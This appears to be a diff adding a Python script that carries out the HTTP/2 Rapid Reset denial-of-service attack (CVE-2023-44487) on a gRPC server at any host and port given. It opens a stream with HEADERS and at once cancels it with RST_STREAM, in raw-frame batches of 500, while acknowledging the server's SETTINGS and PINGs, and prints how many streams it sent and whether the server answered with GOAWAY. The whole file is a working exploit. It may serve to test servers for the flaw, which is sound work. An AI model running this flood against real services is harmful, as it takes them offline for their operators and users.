@@ -1,0 +1,94 @@
+"""HTTP/2 rapid reset (CVE-2023-44487) against a gRPC server: on one connection, opens a
+stream with HEADERS and cancels it with RST_STREAM at once, as fast as it can, for a while.
+
+h2 makes the connection (preface, SETTINGS) and the HPACK header block; the flood itself is
+written as raw frames in large batches, since h2's per-stream bookkeeping would make Python,
+not the server, the bottleneck. The server's SETTINGS and PINGs are acknowledged throughout.
+
+Usage: rapid_reset.py HOST PORT SECONDS
+Prints "FLOOD streams=<n> seconds=<s> goaway=<error code or none>" when done.
+"""
+
+import select
+import socket
+import struct
+import sys
+import time
+
+import h2.config
+import h2.connection
+import hpack
+
+HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
+END_HEADERS, ACK = 0x4, 0x1
+CANCEL = 0x8
+BATCH = 500
+
+host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+sock = socket.create_connection((host, port))
+conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+conn.initiate_connection()
+sock.sendall(conn.data_to_send())
+
+headers = [
+    (":method", "POST"),
+    (":scheme", "http"),
+    (":path", "/Greeter/say_hello"),
+    (":authority", f"{host}:{port}"),
+    ("content-type", "application/grpc"),
+    ("te", "trailers"),
+]
+# Never-indexed literals add nothing to the dynamic table, so one block serves every stream.
+block = hpack.Encoder().encode([(k, v, True) for k, v in headers], huffman=True)
+
+pending = b""
+goaway = None
+
+
+def read_server_frames():
+    """Acknowledges SETTINGS and PINGs; returns a GOAWAY's error code, or None."""
+    global pending
+    while select.select([sock], [], [], 0)[0]:
+        data = sock.recv(1 << 16)
+        if not data:
+            return "closed"
+        pending += data
+        while len(pending) >= 9:
+            length = int.from_bytes(pending[:3], "big")
+            if len(pending) < 9 + length:
+                break
+            kind, flags = pending[3], pending[4]
+            payload = pending[9 : 9 + length]
+            pending = pending[9 + length :]
+            if kind == SETTINGS and not flags & ACK:
+                sock.sendall(frame(SETTINGS, ACK, 0))
+            elif kind == PING and not flags & ACK:
+                sock.sendall(frame(PING, ACK, 0, payload))
+            elif kind == GOAWAY:
+                return str(int.from_bytes(payload[4:8], "big"))
+    return None
+
+
+stream = 1
+sent = 0
+started = time.monotonic()
+try:
+    while goaway is None and time.monotonic() - started < seconds:
+        batch = []
+        for _ in range(BATCH):
+            batch.append(frame(HEADERS, END_HEADERS, stream, block))
+            batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
+            stream += 2
+        sock.sendall(b"".join(batch))
+        sent += BATCH
+        goaway = read_server_frames()
+except OSError as e:
+    goaway = type(e).__name__
+elapsed = time.monotonic() - started
+print(f"FLOOD streams={sent} seconds={elapsed:.1f} goaway={goaway or 'none'}", flush=True)
